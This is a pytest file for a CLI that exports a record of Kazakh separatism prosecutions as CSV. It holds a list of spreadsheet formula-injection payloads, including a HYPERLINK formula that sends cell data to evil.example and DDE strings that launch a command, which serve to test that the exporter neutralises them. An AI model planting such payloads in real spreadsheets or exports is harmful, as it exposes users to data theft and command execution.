"""CSV keeps what each command is for, in the flat shapes the README names.

timeline, fact: one row per fact (version), participants and citations
joined by "; ". person, law: one row per item with a `section` column.
trace: one row per citation of each event (a fact), or per fact (an entity).
Booleans are `true`/`false`.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from typing import Any

import pytest
from click.testing import Result

from khronika.cli.output import neutral

Run = Callable[..., Result]
STAMP = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d+Z")


def out(run: Run, *args: str) -> str:
    result = run(*args)
    assert result.exit_code == 0, result.output
    return result.output


def rows(run: Run, *args: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(out(run, *args, "--format", "csv"))))


def as_json(run: Run, *args: str) -> Any:
    return json.loads(out(run, *args, "--format", "json"))


def test_law_csv_has_the_penalties_in_force_and_the_amendments(demo: Run) -> None:
    text = out(demo, "law", "kz-criminal-code-2014:180", "--as-of", "2015-01-01",
               "--format", "csv")  # fmt: skip
    amendment = "kz-criminal-code-2014-in-force"
    act = "Actions against the inalienability of the state's territory, such as "
    act += "attempting to organise a referendum"
    assert text.split("\n") == [
        "section,amendment,certain,article,conduct,min_term_months,"
        "max_term_months,when,side",
        f"in_force,{amendment},true,kz-criminal-code-2014:180,"
        "Public calls for separatism,,84,,",
        f"in_force,{amendment},true,kz-criminal-code-2014:180,"
        "Propaganda of separatism,,120,,",
        f'in_force,{amendment},true,kz-criminal-code-2014:180,"{act}",,180,,',
        f"amendment,{amendment},,kz-criminal-code-1997:170,"
        "Calls for a forcible change of the state's territory,,,2015-01-01,before",
        f"amendment,{amendment},,kz-criminal-code-2014:180,"
        "Public calls for separatism,,84,2015-01-01,after",
        f"amendment,{amendment},,kz-criminal-code-2014:180,"
        "Propaganda of separatism,,120,2015-01-01,after",
        f'amendment,{amendment},,kz-criminal-code-2014:180,"{act}",,180,'
        "2015-01-01,after",
        "",
    ]


def test_law_csv_before_any_amendment_names_no_amendment(demo: Run) -> None:
    found = rows(demo, "law", "kz-criminal-code-2014:180", "--as-of", "2014-01-01")
    in_force = [r for r in found if r["section"] == "in_force"]
    state = as_json(demo, "law", "kz-criminal-code-2014:180", "--as-of", "2014-01-01")
    assert len(in_force) == len(state["in_force"]["penalties"])
    assert all(r["amendment"] == "" for r in in_force)


def test_timeline_csv_has_participants_and_citations(demo: Run) -> None:
    text = out(demo, "timeline", "--person", "tatyana-serebryakova", "--format",
               "csv")  # fmt: skip
    lines = STAMP.sub("T", text).split("\n")
    assert lines[0] == (
        "id,kind,when,label,earliest,latest,status,place,summary,version,"
        "recorded_at,participants,sources"
    )
    conversation = next(x for x in lines if x.startswith("serebryakova-chat"))
    assert conversation.endswith(
        ",1,T,tatyana-serebryakova (speaker); serebryakova-chatroulette-interlocutor "
        "(addressee); serebryakova-chatroulette-interlocutor (publisher); "
        "chatroulette (platform); north-kazakhstan-region (subject),"
        '"worldcrunch-kz-separatism@para:6 '
        '""Take our Petropavlovsk for your own, like Crimea, the North Kazakhstan '
        'region."""'
    ), conversation
    verdict = next(x for x in lines if x.startswith("serebryakova-verdict-2023,"))
    assert verdict.endswith(
        ",1,T,tatyana-serebryakova (defendant),"
        "worldcrunch-kz-separatism@para:6; worldcrunch-kz-separatism@para:7"
    ), verdict


def test_person_csv_has_the_sentences_and_their_status(demo: Run) -> None:
    found = rows(demo, "person", "vyacheslav-zuderman", "--as-of", "2024-01-01")
    history = as_json(demo, "person", "vyacheslav-zuderman", "--as-of", "2024-01-01")
    sentences = [r for r in found if r["section"] == "sentence"]
    assert [(r["fact"], r["status"]) for r in sentences] == [
        (s["fact"], s["status"]) for s in history["sentences"]
    ]
    assert sentences and all(r["status"] for r in sentences)
    facts = [r for r in found if r["section"] == "fact"]
    assert [r["id"] for r in facts] == [f["id"] for f in history["facts"]]
    verdict = next(r for r in facts if r["id"] == sentences[0]["fact"])
    assert verdict["participants"] == (
        "vyacheslav-zuderman (defendant); peoples-council-of-workers-followers "
        "(defendant)"
    )
    assert verdict["roles"]
    assert list(found[0])[0] == "section"


def test_fact_csv_writes_booleans_as_true_and_false(demo: Run) -> None:
    fact = "astakhov-verdict-2024"
    assert [r["retracted"] for r in rows(demo, "fact", fact)] == ["false"]
    retracted = demo("retract", fact, "--reason", "test",
                     "--source", "worldcrunch-kz-separatism@para:4")  # fmt: skip
    assert retracted.exit_code == 0, retracted.output
    found = rows(demo, "fact", fact)
    assert [r["retracted"] for r in found] == ["false", "true"]
    assert found[0]["sources"] == "worldcrunch-kz-separatism@para:4"


def test_trace_speaks_csv_for_a_fact(demo: Run) -> None:
    fact = "serebryakova-verdict-2023"
    corrected = demo("correct", fact, "--set", "when=2023-05-31",
                     "--reason", "the court's notice",
                     "--source", "worldcrunch-kz-separatism@para:6")  # fmt: skip
    assert corrected.exit_code == 0, corrected.output
    text = out(demo, "trace", fact, "--format", "csv")
    header = text.split("\n")[0]
    assert header == (
        "id,position,event,version,recorded_at,recorded_by,key,reason,changes,"
        "unchecked,source,title,publisher,url,published,locator,quote,verified,"
        "unchecked_at_append,copy_sha256,copy_is_current,leaf_index,tree_size,root"
    )
    found = rows(demo, "trace", fact)
    traced = as_json(demo, "trace", fact)
    assert [(r["event"], r["locator"]) for r in found] == [
        (e["event"], c["locator"]) for e in traced["events"] for c in e["citations"]
    ]
    last = found[-1]
    assert (last["reason"], last["changes"]) == (
        "the court's notice",
        '{"when": "2023-05-31"}',
    )
    assert last["title"] == (
        "Separatism prosecutions in Kazakhstan and pro-Russian sentiment (analysis)"
    )
    assert last["tree_size"] == str(traced["events"][-1]["proof"]["tree_size"])


def test_trace_speaks_csv_for_an_entity(demo: Run) -> None:
    text = out(demo, "trace", "tatyana-serebryakova", "--format", "csv")
    assert text.split("\n") == [
        "id,kind,when,label,sources",
        "serebryakova-chatroulette-conversation-2021,statement,2021-09,"
        'September 2021,"worldcrunch-kz-separatism@para:6 ""Take our Petropavlovsk '
        'for your own, like Crimea, the North Kazakhstan region."""',
        "serebryakova-investigation-2023,investigation,2022-09/2023-05-30,"
        "September 2022 – 2023-05-30,worldcrunch-kz-separatism@para:7",
        "serebryakova-verdict-2023,verdict,2023-05-30,2023-05-30,"
        "worldcrunch-kz-separatism@para:6; worldcrunch-kz-separatism@para:7",
        "serebryakova-daughter-placed-2023,other,2023-05-30/2023-12-31,"
        "2023-05-30 – 2023-12-31,worldcrunch-kz-separatism@para:7",
        "",
    ]


# Cells a spreadsheet would run as formulas (OWASP, "CSV Injection")
FORMULAS = {
    '=HYPERLINK("https://evil.example/?"&A1,"open")': "'=HYPERLINK(",
    "=cmd|' /C calc'!A0": "'=cmd|",
    "+1+cmd|' /C calc'!A0": "'+1+cmd",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "-0044-03-15": "'-0044-03-15",
}


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_start_a_formula_gets_a_leading_quote(text: str) -> None:
    assert neutral(text) == "'" + text
    assert neutral(text).startswith(FORMULAS[text])


@pytest.mark.parametrize("text", ["-5", "+1.5", "-1e3", "2023-05-30", "a=b", ""])
def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert neutral(text) == text


def test_timeline_csv_neutralises_formulas_and_a_year_bc(demo: Run) -> None:
    summary = '=HYPERLINK("https://evil.example/","open")'
    fact = {"type": "fact", "id": "a-formula", "kind": "other", "when": "-0044-03-15",
            "summary": summary, "sources": [{"source": "worldcrunch-kz-separatism",
                         "locator": "para:1"}]}  # fmt: skip
    assert demo("append", "-", input=json.dumps(fact)).exit_code == 0
    (row,) = rows(demo, "timeline", "--search", "HYPERLINK")
    assert row["summary"] == "'" + summary
    assert (row["when"], row["earliest"]) == ("'-0044-03-15", "'-0044-03-15")


@pytest.mark.parametrize(
    ("args", "header"),
    [
        (["timeline", "--search", "no such words"], "id,kind,when,label,earliest,"
         "latest,status,place,summary,version,recorded_at,participants,sources"),
        (["entity", "list", "--search", "no such name"], "id,kind,name,aliases"),
        (["stats", "--by", "charge", "--as-of", "1900"],
         "key,certain,possible,verdicts,defendants,people,groups,terms,median,"
         "mean,min,max"),
        (["stats", "--by", "year", "--as-of", "1900"],
         "key,certain,possible,verdicts,defendants,people,groups"),
        (["stats", "--by", "lag", "--as-of", "1900"], "defendant,act,verdict,days"),
        (["diff", "--known-at", "2000-01-01", "--known-at", "2000-01-02"],
         "change,id,kind,from_version,to_version,recorded_at,recorded_by,reason,"
         "summary,recorded_key,steps"),
    ],
)  # fmt: skip
def test_an_empty_csv_answer_still_has_its_header(
    demo: Run, args: list[str], header: str
) -> None:
    assert out(demo, *args, "--format", "csv") == header + "\n"
